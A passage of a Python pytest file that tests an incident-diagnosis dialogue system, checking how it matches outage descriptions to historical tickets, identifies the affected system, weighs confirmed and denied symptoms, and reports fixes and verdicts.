    def made(*nearest: float) -> Diagnosis | PhenomenonQuestion:
        tickets = [ticket(str(n), "the shop answers late since noon", "index dropped", like) for n, like in enumerate(nearest)]
        tickets.append(ticket("9", "something else", "disk worn out", 0.05))
        return after(evidence(tickets, []), text="the shop answers late since noon")

    once, often = made(0.97), made(0.97, 0.96)
    assert isinstance(once, Diagnosis)
    assert once.verdict is Verdict.UNCERTAIN
    assert once.confidence < 0.7
    assert isinstance(often, Diagnosis)
    assert often.verdict is Verdict.DIAGNOSED


@pytest.mark.parametrize(
    "text", ["CPU is at 30%", "CPU 使用率 30%", "Memory usage 41 %", "CPU and memory are normal", "Server load average: 0.8"]
)
def test_a_reading_that_says_that_all_is_well_is_not_asked(text: str):
    """D9: nobody finds a cause by it."""
    assert observed(text) == ""


@pytest.mark.parametrize("text", ["CPU is at 97%", "Disk usage 98 %", "CPU at 5 % while all threads wait", "磁盘使用率 98%"])
def test_a_reading_that_says_more_is_asked(text: str):
    assert observed(text)


@pytest.mark.parametrize(
    ("answer", "system"),
    [
        ("BILLDB02", "BILLDB02"),
        ("it is billdb01, the one for invoices", "BILLDB01"),
        ("billdb", None),
        ("kafka connect", None),
    ],
)
def test_names_that_end_in_figures_are_told_apart(answer: str, system: str | None):
    """D28: the whole name counts, before the beginning that two of them share."""
    assert named_system(("BILLDB01", "BILLDB02", "lake"), answer) == system


def test_a_component_is_another_system_than_the_brokers():
    """D28."""
    tickets = [
        ticket("1", "offsets stay", "connect bug", 0.4, system="kafka-connect"),
        ticket("2", "offsets stay", "connect bug", 0.4, system="kafka-connect"),
        ticket("3", "disk fills", "no retention", 0.4, system="kafka-prod"),
        ticket("4", "disk fills", "no retention", 0.4, system="kafka-prod"),
        ticket("5", "query waits", "lock", 0.4, system="mysql"),
    ]
    systems = read_systems(evidence(tickets, []))

    assert set(systems.names) == {"kafka-connect", "kafka-prod", "mysql"}
    assert named_system(systems.names, "kafka-connect", systems.aliases) == "kafka-connect"


def test_a_product_that_no_ticket_has_ends_in_unknown_and_says_so():
    """D28: no question about another system, and no cause of one."""
    request = DiagnoseRequest(description="everything is slow, please help")
    asked = move(request, MIXED, [], method=METHOD)
    assert isinstance(asked, PhenomenonQuestion)
    assert asked.systems

    for answer in ("MongoDB", "system: MongoDB", "系统：MongoDB"):
        ended = move(request, MIXED, [(asked, answer)], method=METHOD)
        assert isinstance(ended, Diagnosis)
        assert ended.verdict is Verdict.UNKNOWN
        assert "No ticket of the history is about “MongoDB”." in english(ended.explanation)


def test_the_answer_on_the_system_is_said_back():
    request = DiagnoseRequest(description="everything is slow, please help")
    asked = move(request, MIXED, [], method=METHOD)
    assert isinstance(asked, PhenomenonQuestion)
    known = move(request, MIXED, [(asked, asked.systems[0])], method=METHOD)
    other = move(request, MIXED, [(asked, "system: the storage")], method=METHOD)
    vague = move(request, MIXED, [(asked, "system: the queries")], method=METHOD)

    assert isinstance(known, PhenomenonQuestion)
    assert isinstance(vague, PhenomenonQuestion)
    assert english(known.notes[0]) == f"Noted: this is “{asked.systems[0]}”; the search goes on there."
    assert english(vague.notes[0]) == "The tickets have no system “the queries”, so that all of theirs are still possible."
    assert isinstance(other, Diagnosis)
    assert other.verdict is Verdict.UNKNOWN
    assert "“the storage”" in english(other.explanation)


@pytest.mark.parametrize(
    ("text", "has"),
    [
        ("app node 10.2.4.18 does not answer", True),
        ("it began at 03:12", True),
        ("partition 7 is far behind", True),
        ("smartctl fails for /dev/sdk", True),
        ("db-core-02 waits", True),
        ("大客户 A001 的请求集中在一个分区", True),
        ("replication lag is above 600 s", False),
        ("the pool is exhausted (~200 connections)", False),
        ("HTTP 502 from the gateway", False),
        ("ORA-01555 in the report", False),
    ],
)
def test_a_question_with_particulars_of_another_incident_says_so(text: str, has: bool):
    assert has_particulars(text) is has


@pytest.mark.parametrize("text", ["数据库主机 CPU 使用率超过 90 %", "复制延迟大于 600 秒", "CPU usage is above 90 %", "空闲内存少于5 %"])
def test_a_threshold_is_no_example_with_and_without_a_blank(text: str):
    assert without_figures(text) == text


PRODUCTS = [
    ticket("1", "nobody can log in", "pool too large", 0.4, "a", hosts=("Oracle", "billing-db")),
    ticket("2", "inserts fail", "tablespace full", 0.4, "b", hosts=("Oracle", "billing-db")),
    ticket("3", "nobody can log in", "connection leak", 0.4, "c", hosts=("PostgreSQL 14", "shop-db")),
    ticket("4", "disk full", "inactive slot", 0.4, "d", hosts=("PostgreSQL 14", "shop-db")),
    ticket("5", "log full", "long transaction", 0.4, "e", system="Warehouse", hosts=("dwh-01",)),
]
SIGNS = [
    phenomenon(key, text, cause)
    for key, text, cause in (
        ("a", "the listener refuses sessions", "pool too large"), ("b", "a tablespace is full", "tablespace full"),
        ("c", "too many clients are logged", "connection leak"), ("d", "a slot is inactive", "inactive slot"),
        ("e", "the oldest transaction is three days old", "long transaction"),
    )
]  # fmt: skip


def test_the_product_that_a_configuration_item_names_is_the_system():
    systems = read_systems(evidence(PRODUCTS, SIGNS))

    assert systems.of_ticket == {"T-1": "Oracle", "T-2": "Oracle", "T-3": "postgresql", "T-4": "postgresql", "T-5": "Warehouse"}


@pytest.mark.parametrize(
    ("said", "system"), [("PG", "postgresql"), ("billing-db", "Oracle"), ("shop-db", "postgresql"), ("dwh-01", "Warehouse")]
)
def test_a_name_or_an_alias_of_the_history_is_the_system_in_an_answer_and_in_the_opening(said: str, system: str):
    found = evidence(PRODUCTS, SIGNS)
    asked = after(found, text="nobody can log in since noon")
    assert isinstance(asked, PhenomenonQuestion)
    assert asked.systems

    assert read_answer(said, asked).system == system
    nats = system_of_incident(read_systems(found), found, [f"{said}: nobody can log in since noon"])
    assert max(nats, key=nats.__getitem__) == system
    assert nats[system] > 0


def test_the_english_and_the_chinese_name_of_a_product_are_one_system():
    tickets = [
        ticket("1", "登录失败", "连接数满", 0.4, system="达梦数据库"),
        ticket("2", "登录失败", "内存不足", 0.4, system="DM8"),
        ticket("3", "登录失败", "连接泄漏", 0.4, system="PG"),
        ticket("4", "登录失败", "磁盘满", 0.4, system="PostgreSQL 数据库"),
    ]

    assert len(read_systems(evidence(tickets, [])).names) == 2


def test_a_short_name_is_no_part_of_a_word():
    """Dameng is `dm`, and "admin" is not about it."""
    tickets = [ticket("1", "x", "a", 0.4, system="DM"), ticket("2", "y", "b", 0.4, system="Oracle")]
    systems = read_systems(evidence(tickets, []))

    def likeliest(text: str) -> str | None:
        nats = system_of_incident(systems, evidence(tickets, []), [text])
        return max(nats, key=nats.__getitem__) if max(nats.values()) > 0 else None

    assert (likeliest("the admin cannot log in"), likeliest("DM: nobody can log in")) == (None, "DM")


def standing_after(*answers: str, likeness: float = 0.55) -> dict[str, float]:
    """cause → what is said of it after these answers, where the opening is nearest to the first of three causes."""
    causes = ("index dropped", "disk worn out", "pool too small")
    found = evidence(
        [
            ticket(str(n), "the shop answers late since noon", cause, 0.3 if n else likeness, f"p{n}", f"q{n}")
            for n, cause in enumerate(causes)
        ],
        [
            phenomenon(f"{key}{n}", f"reading of {what} {'abc'[n] * 3} is off the scale", cause)
            for n, cause in enumerate(causes)
            for key, what in (("p", "gauge"), ("q", "meter"))
        ],
    )
    made = after(found, *answers)
    named = [(made.root_cause, made.confidence)] if isinstance(made, Diagnosis) and made.root_cause else []
    others = made.alternatives if isinstance(made, Diagnosis) else made.hypotheses
    return dict([*named, *((each.root_cause, each.confidence) for each in others)])


def test_no_denial_makes_a_cause_likelier_of_which_nothing_was_seen():
    """What is left when the others are denied was not found: the incident may have a cause that the history lacks."""
    before, then, last = standing_after(), standing_after("none"), standing_after("none", "none")

    assert all(then[cause] <= before[cause] + 1e-9 for cause in then)
    assert all(last[cause] <= then[cause] + 1e-9 for cause in last)
    assert sum(last.values()) < sum(then.values()) < sum(before.values())


def test_a_conclusion_has_the_fix_of_each_ticket_that_it_cites():
    tickets = [
        ticket("1", "the shop hangs", "lock queue", 0.7, "wait").model_copy(update={"solution": "ended the session"}),
        ticket("2", "the shop hangs", "lock queue", 0.6, "wait").model_copy(update={"solution": "mend C-lock queue"}),
        ticket("3", "the shop hangs", "lock queue", 0.5, "wait").model_copy(update={"solution": "ended  the session"}),
    ]
    made = after(
        evidence(tickets, [phenomenon("wait", "sessions wait for a lock on orders", "lock queue")]), "1 yes", text="the shop hangs"
    )

    assert isinstance(made, Diagnosis)
    assert [(fix.solution, fix.tickets) for fix in made.fixes] == [("mend C-lock queue", ("T-2",)), ("ended the session", ("T-1", "T-3"))]


@pytest.mark.parametrize("by_data", [{"absent": ("Sequential scans of the table orders.",)}, {"looked_up": ("orders is scanned",)}])
def test_what_data_has_confirmed_or_denied_is_not_asked_of_a_person(by_data: dict[str, tuple[str, ...]]):
    asked = after(TWO)
    assert isinstance(asked, PhenomenonQuestion)
    assert "P-scan" in {item.phenomenon_id for item in asked.items}

    match = ObservationMatch(text="orders is scanned", phenomenon_id="P-scan", similarity=0.8)
    then = after(TWO.model_copy(update={**by_data, "observations": (match,) if "looked_up" in by_data else ()}))

    items = then.items if isinstance(then, PhenomenonQuestion) else then.to_check
    assert "P-scan" not in {item.phenomenon_id for item in items}


def test_a_question_of_the_user_at_the_last_turn_is_answered_before_the_dialogue_ends():
    asked = after(TWO)
    assert isinstance(asked, PhenomenonQuestion)
    first = asked.items[0]
    other = first.model_copy(update={"number": 2, "phenomenon_id": "P-other", "description": "the disk is worn out"})
    question = asked.model_copy(update={"items": (first, other)})
    request = DiagnoseRequest(description="the shop is slow", max_turns=1)

    then = move(request, TWO, [(question, "1 no, how do I check 2?")], method=METHOD)

    assert isinstance(then, PhenomenonQuestion)
    assert [(item.number, item.phenomenon_id) for item in then.items] == [(1, "P-other")]
    assert then.notes
    assert isinstance(move(request, TWO, [(question, "1 no, how do I check 2?"), (then, "no")], method=METHOD), Diagnosis)


def test_a_cause_is_no_diagnosis_while_as_much_of_it_was_denied_as_seen():
    """An incident with the same symptom and another cause: the symptom is there, the sign of the cause is not."""
    tickets = [
        ticket("1", "too many parts, inserts are refused", "single rows", 0.8, "parts", "small"),
        ticket("2", "inserts are refused, too many parts", "single rows", 0.8, "parts", "small"),
        ticket("3", "tables are read-only", "keeper full", 0.3, "keeper"),
    ]
    cards = [
        phenomenon("parts", "3000 active parts in one partition", "single rows"),
        phenomenon("small", "inserts of 1 to 5 rows, hundreds a second", "single rows"),
        phenomenon("keeper", "the disk of the keeper is full", "keeper full"),
    ]
    held, request = evidence(tickets, cards), DiagnoseRequest(description="loads fail: too many parts")
    items = [
        PhenomenonItem(number=at, phenomenon_id=card.phenomenon_id, description=card.description, observation_method="", why="")
        for at, card in enumerate(cards[:2], start=1)
    ]
    question = PhenomenonQuestion(turn=1, items=tuple(items))

    both = move(request, held, [(question, "1 yes 2 yes")], method=METHOD)
    one = move(request, held, [(question, "1 yes 2 no")], method=METHOD)

    assert isinstance(both, Diagnosis)
    assert both.verdict is Verdict.DIAGNOSED
    assert not isinstance(one, Diagnosis) or one.verdict is not Verdict.DIAGNOSED


def test_a_word_of_a_systems_name_that_only_its_tickets_have_names_it():
    tickets = [
        ticket("1", "baggage search is slow", "lock", 0.3, "lock", system="Baggage reconciliation"),
        ticket("2", "baggage scans queue up", "lock", 0.3, "lock", system="Baggage reconciliation"),
        ticket("3", "flights are missing on the displays", "stale", 0.3, "part", system="Flight displays"),
        ticket("4", "baggage belts without flights", "stale", 0.3, "part", system="Belts"),
    ]
    held = evidence(tickets, [phenomenon("lock", "sessions wait for a lock", "lock"), phenomenon("part", "data are stale", "stale")])
    systems = read_systems(held)

    nats = system_of_incident(systems, held, ["the displays are black"])
    assert max(nats, key=nats.__getitem__) == "Flight displays"
    assert max(nats.values()) > 0
    assert max(system_of_incident(systems, held, ["baggage is stuck"]).values()) <= 0
